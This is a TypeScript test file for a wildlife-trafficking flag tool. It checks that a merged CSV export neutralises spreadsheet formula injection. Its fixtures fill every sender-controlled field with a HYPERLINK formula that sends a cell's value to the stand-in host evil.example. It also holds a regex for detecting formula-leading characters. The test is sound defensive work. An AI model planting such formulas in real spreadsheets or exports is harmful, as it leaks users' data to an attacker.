import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, flagsCsv } from '@/lib/export/csv-columns';
import type { Flag, Observation } from '@/lib/records/flag';
import { flag, ivory, observation } from './builder';

/*
 * CSV injection in every column a sender writes (forge29): a coordinator's export of merged flags holds what every
 * researcher's file said, and a file can say anything its schema lets through (researcher ids, survey names,
 * platform names, detection labels, field-source keys), not only the ad's text. Each text field is set to a formula,
 * two researchers' observations are merged into the flag, and the merged CSV is read as three spreadsheets read it.
 */

const PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"open")';
/** The same formula after a list separator: a ";" reader starts a cell with it. */
const IN_A_LIST = ' @SUM(1+1)';

const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B]/u;
const SKIPPED = /^[\p{White_Space}\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}"]*/u;
const startsFormula = (cell: string) => FORMULA.test(cell.replace(SKIPPED, ''));

/** Cells as a reader splits them: at the separator and line breaks, quotes honoured or not. */
function cellsOf(text: string, separator: string, quotes: boolean): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at]!;
    if (quotes && quoted && char === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (quotes && char === '"') quoted = !quoted;
    else if (!quoted && (char === separator || char === '\n' || char === '\r')) {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  return [...cells, cell];
}

/** An observation whose every text a sender controls is the payload, by `researcher`. */
async function forgedObservation(n: number, researcher: string): Promise<Observation> {
  const made = await observation({ n, by: { researcherId: researcher, survey: PAYLOAD } });
  return {
    ...made,
    detected: [{ ...ivory, label: PAYLOAD, matched: [PAYLOAD] }],
    textCut: { reason: 'characters', characters: 10, after: PAYLOAD },
    changedDuringCapture: ['price', PAYLOAD],
    // The page's own `lang`: whatever the page wrote, within the schema's 35 characters.
    pageLang: '=HYPERLINK("//evil.example","x")',
  };
}

async function mergedFlag(): Promise<Flag> {
  const made = flag({
    n: 1,
    ad: {
      title: PAYLOAD,
      description: PAYLOAD,
      location: PAYLOAD,
      listingId: PAYLOAD,
      postedAt: PAYLOAD,
      postedText: PAYLOAD,
      claimedTitle: PAYLOAD,
      seller: { name: PAYLOAD, id: PAYLOAD },
      sources: { [PAYLOAD]: 'visible' },
      paperworkClaim: { claim: 'permit', phrase: PAYLOAD },
    },
    assessment: {
      confirmedTaxa: ['Loxodonta africana', IN_A_LIST],
      paperwork: PAYLOAD,
      notes: PAYLOAD,
      tags: ['ivory', IN_A_LIST],
    },
    observations: [await forgedObservation(1, 'anna.k'), await forgedObservation(2, PAYLOAD)],
  });
  return { ...made, platform: { ...made.platform, name: PAYLOAD } };
}

describe('a merged export whose every sender-written text is a formula', () => {
  it.each([
    ['",", quotes honoured', ',', true],
    ['";", quotes honoured', ';', true],
    ['";" and line breaks, quotes ignored', ';', false],
  ] as const)('starts no formula in any cell, read with %s', async (_reader, separator, quotes) => {
    const csv = flagsCsv([await mergedFlag()], { batchId: 'b', taxa: () => undefined }).slice(1);
    expect(cellsOf(csv, separator, quotes).filter(startsFormula)).toEqual([]);
  });

  it('writes the payload into the columns a sender controls, so the case above tests them', async () => {
    const csv = flagsCsv([await mergedFlag()], { batchId: 'b', taxa: () => undefined }).slice(1);
    const [header, row] = csv.split('\r\n').map((line) => cellsOf(line, ',', true));
    const carrying = header!.filter((_name, index) => row![index]!.includes('HYPERLINK'));
    expect(carrying).toEqual(
      expect.arrayContaining([
        'platform',
        'title',
        'seller_name',
        'seller_id',
        'location',
        'listing_id',
        'posted_at',
        'researchers',
        'survey',
        'detected_taxa',
        'paperwork',
        'notes',
        'posted_text',
        'paperwork_evidence',
        'claimed_title',
        'field_sources',
        'text_cut',
        'changed_during_capture',
        'page_lang',
      ]),
    );
    expect(header).toHaveLength(CSV_COLUMNS.length);
  });
});
